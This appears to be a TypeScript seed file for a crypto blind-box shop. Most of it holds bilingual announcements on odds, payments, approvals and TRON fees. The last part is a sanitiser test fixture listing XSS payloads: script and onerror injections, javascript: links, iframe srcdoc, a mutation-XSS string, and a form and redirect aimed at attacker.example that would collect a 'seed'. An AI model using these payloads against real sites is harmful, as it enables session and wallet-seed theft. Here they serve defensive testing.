import type { Content } from '../../backend/shop/content.ts'
import type { Localised } from '../../backend/shop/localised.ts'
import { HOUR_MS, type Millis } from '../../src/core/time.ts'

interface Seed {
  readonly id: string
  readonly hoursAgo: number
  readonly title: Localised
  readonly summary: Localised
  readonly html: Localised
}

const seeds: readonly Seed[] = [
  {
    id: 'kiln-box-on-sale',
    hoursAgo: 3,
    title: { en: 'Kiln Box is on sale', tc: '窯變盲盒開賣' },
    summary: {
      en: '500 boxes at 30 USDT each, five for each person. The odds are in the contract.',
      tc: '共 500 個，每個 30 USDT，每人限購 5 個，機率已寫入合約。',
    },
    html: {
      en: '<p>The <strong>Kiln Box</strong> is on sale now: 500 boxes at <strong>30 USDT</strong> each, five for each person.</p><h2>Odds</h2><table><thead><tr><th>Rarity</th><th>Odds</th></tr></thead><tbody><tr><td>Common</td><td>72%</td></tr><tr><td>Rare</td><td>22%</td></tr><tr><td>Epic</td><td>5%</td></tr><tr><td>Mythic</td><td>1%</td></tr></tbody></table><p>They are written into the sale contract and cannot change after the first sale.</p>',
      tc: '<p><strong>窯變盲盒</strong>現已開賣：共 500 個，每個 <strong>30 USDT</strong>，每人限購 5 個。</p><h2>機率</h2><table><thead><tr><th>稀有度</th><th>機率</th></tr></thead><tbody><tr><td>普通</td><td>72%</td></tr><tr><td>稀有</td><td>22%</td></tr><tr><td>史詩</td><td>5%</td></tr><tr><td>神話</td><td>1%</td></tr></tbody></table><p>機率寫在銷售合約中，售出第一個之後就無法更改。</p>',
    },
  },
  {
    id: 'how-boxes-are-drawn',
    hoursAgo: 27,
    title: { en: 'How a box is drawn', tc: '盲盒如何抽出' },
    summary: {
      en: 'Nobody, not even we, can know what is in a box before you have paid.',
      tc: '在你付款之前，沒有人能知道盒子裡是什麼，我們也不能。',
    },
    html: {
      en: '<p>What a box holds is decided by the hash of the block <em>after</em> your purchase. That block does not exist yet when you pay.</p><ol><li>You pay; your order enters a block.</li><li>The next block is made. Its hash is kept by the contract.</li><li>You open: the contract computes the rarity from that hash, your address and your order.</li></ol><p>Anybody can repeat the computation.</p>',
      tc: '<p>盒中內容由你購買之後的<em>下一個</em>區塊的雜湊值決定。你付款的當下，那個區塊還不存在。</p><ol><li>你付款，訂單進入區塊。</li><li>下一個區塊產生，合約保存它的雜湊值。</li><li>你開盒：合約以雜湊值、你的地址與訂單計算稀有度。</li></ol><p>任何人都能重新驗算。</p>',
    },
  },
  {
    id: 'two-payments',
    hoursAgo: 50,
    title: { en: 'Boxes in two payments', tc: '可分兩次付款的盲盒' },
    summary: {
      en: 'The contract holds your first payment until the second one comes, or gives it back.',
      tc: '合約會保管第一筆款項，直到你完成第二筆付款，或逾期退還。',
    },
    html: {
      en: '<p>Twin Pour and Quench are paid in two coins. The first payment stays in the contract; we cannot touch it.</p><ul><li>Pay the second part in time, and the box is yours.</li><li>If the time runs out, take the first payment back. Anyone can start the refund; it always goes to the buyer.</li></ul>',
      tc: '<p>「雙澆盲盒」與「淬火盲盒」以兩種幣支付。第一筆款項留在合約中，我們無法動用。</p><ul><li>在期限內付清第二筆，盲盒就屬於你。</li><li>若逾期，可以取回第一筆款項。任何人都能發起退款，款項一定退給買家。</li></ul>',
    },
  },
  {
    id: 'unfinished-orders',
    hoursAgo: 98,
    title: { en: 'Closed the app too early?', tc: '太早關閉了應用程式？' },
    summary: {
      en: 'An unfinished order can be paid later, from any device.',
      tc: '未完成的訂單可以稍後再付款，任何裝置都行。',
    },
    html: {
      en: '<p>If your connection drops after you signed, we finish the order for you. If you did not sign, you find it under <b>My blind boxes</b> and can pay it later, from any device.</p><blockquote><p>One order is paid once. The contract refuses a second payment.</p></blockquote>',
      tc: '<p>如果簽署後連線中斷，我們會替你完成訂單。如果尚未簽署，可以在<b>我的盲盒</b>找到它，稍後在任何裝置上付款。</p><blockquote><p>一筆訂單只會付款一次，合約會拒絕重複付款。</p></blockquote>',
    },
  },
  {
    id: 'approvals',
    hoursAgo: 170,
    title: { en: 'A word about approvals', tc: '關於授權的提醒' },
    summary: {
      en: 'Approve what you are about to pay, not more, and revoke what you no longer need.',
      tc: '只授權你要支付的金額，不再需要時請撤銷。',
    },
    html: {
      en: '<p>Paying in USDT takes an approval first. We ask for exactly the amount that you are about to pay.</p><p>Check your approvals from time to time, and revoke those that you do not know.</p>',
      tc: '<p>以 USDT 付款前需要先授權，我們只會要求你即將支付的金額。</p><p>請定期檢查授權，並撤銷不認得的項目。</p>',
    },
  },
  {
    id: 'network-fees',
    hoursAgo: 300,
    title: { en: 'What a payment costs', tc: '付款需要多少手續費' },
    summary: {
      en: 'The network charges energy and bandwidth. We show the estimate and the worst case.',
      tc: '網路會收取能量與頻寬費用，我們會顯示預估值與最高值。',
    },
    html: {
      en: '<p>Contract calls on TRON use energy. If you have none staked, TRX is burnt for it, at the price that the network sets.</p><p>Before you sign, you see what it will probably cost, and the most that it can.</p>',
      tc: '<p>TRON 上的合約呼叫會消耗能量。如果沒有質押取得能量，就會按網路定價燃燒 TRX。</p><p>簽署之前，你會看到預估費用與最高費用。</p>',
    },
  },
  {
    id: 'founders-sold-out',
    hoursAgo: 520,
    title: { en: 'Founders Box is sold out', tc: '創廠紀念盲盒已售罄' },
    summary: {
      en: 'All forty pieces have found an owner. Thank you.',
      tc: '四十枚已全數售出，感謝支持。',
    },
    html: {
      en: '<p>All forty pieces have found an owner. Thank you! Unopened boxes stay yours and can be opened at any time.</p>',
      tc: '<p>四十枚已全數售出，感謝支持！尚未開啟的盲盒仍屬於你，隨時都能開啟。</p>',
    },
  },
  {
    id: 'welcome',
    hoursAgo: 900,
    title: { en: 'The house is open', tc: '鑄造廠開張' },
    summary: {
      en: 'Cast tokens, open boxes, and check everything on chain.',
      tc: '鑄造代幣、開啟盲盒，一切都能在鏈上查證。',
    },
    html: {
      en: '<p>Welcome. Everything that moves value here is a transaction that you sign, and that you can check on chain.</p>',
      tc: '<p>歡迎。這裡的每一筆資產變動，都是由你簽署、並能在鏈上查證的交易。</p>',
    },
  },
]

export const announcementSeeds = (now: Millis): Content['announcements'] =>
  seeds.map(({ hoursAgo, ...seed }) => ({ ...seed, publishedAt: now - hoursAgo * HOUR_MS }))

const ATTACKS = [
  '<script>window.__hostile = "script"</script>',
  '<img src="x" onerror="window.__hostile = \'onerror\'">',
  '<svg><script>window.__hostile = "svg"</script><animate onbegin="window.__hostile = \'animate\'" attributeName="x"/></svg>',
  '<a href="javascript:window.__hostile = \'href\'" id="hostile-link">a link</a>',
  '<iframe srcdoc="<script>parent.__hostile = \'iframe\'</script>"></iframe>',
  '<form action="https://attacker.example/" id="hostile-form"><input name="seed"><button>Send</button></form>',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0;z-index:9999" onclick="window.__hostile = \'click\'">cover</p>',
  '<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  // Must be last: the elements that it leaves open swallow anything after them.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hostile=1&gt;">',
]

/**
 * Creates an announcement as an attacker in the backend would publish it; each successful attack
 * leaves a mark.
 */
export const hostileAnnouncement = (now: Millis): Content['announcements'] => {
  const html = `<p id="harmless">This text is harmless.</p>${ATTACKS.join('')}`
  const title = 'Hostile <img src=x onerror="window.__hostile = 1">'
  return [
    {
      id: 'hostile',
      title: { en: title, tc: title },
      summary: { en: '<b>not bold</b>', tc: '<b>not bold</b>' },
      html: { en: html, tc: html },
      // The newest one, and published already.
      publishedAt: now - HOUR_MS,
    },
  ]
}
